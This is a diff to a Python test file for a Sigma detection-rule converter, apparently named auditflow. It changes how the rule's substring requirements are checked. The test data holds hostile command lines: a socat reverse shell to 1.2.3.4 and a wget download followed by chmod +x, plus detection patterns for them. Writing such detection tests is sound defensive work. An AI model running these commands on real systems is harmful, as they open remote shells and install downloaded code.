@@ -9,7 +9,7 @@ import pytest
 
 from auditflow.backends.state import WindowState
 from auditflow.model import Event
-from auditflow.rules.conditions import compile_where
+from auditflow.rules.requirements import Substrings, requirements
 from tests.sigma.helpers import convert_one, k8s_event, k8s_rule, matches
 
 SELECTIONS = """detection:
@@ -125,7 +125,8 @@ detection:
             {"contains": "; chmod +x", "ignore_case": True, "regex": "(?is:wget .*; chmod \\+x)"},
         ]
     }
-    assert compile_where(rule["where"]).needles == ("details.event.original", frozenset({"socat exec:", "; chmod +x"}))
+    needles = Substrings("details.event.original", frozenset({"socat exec:", "; chmod +x"}), exact=True)
+    assert needles in requirements(rule["where"])
     assert await matches(state, rule, linux_event("bash: SOCAT EXEC:/bin/sh tcp:1.2.3.4"))
     assert await matches(state, rule, linux_event("bash: wget http://x/a; CHMOD +x a"))
     assert not await matches(state, rule, linux_event("bash: curl x; chmod +x a"))
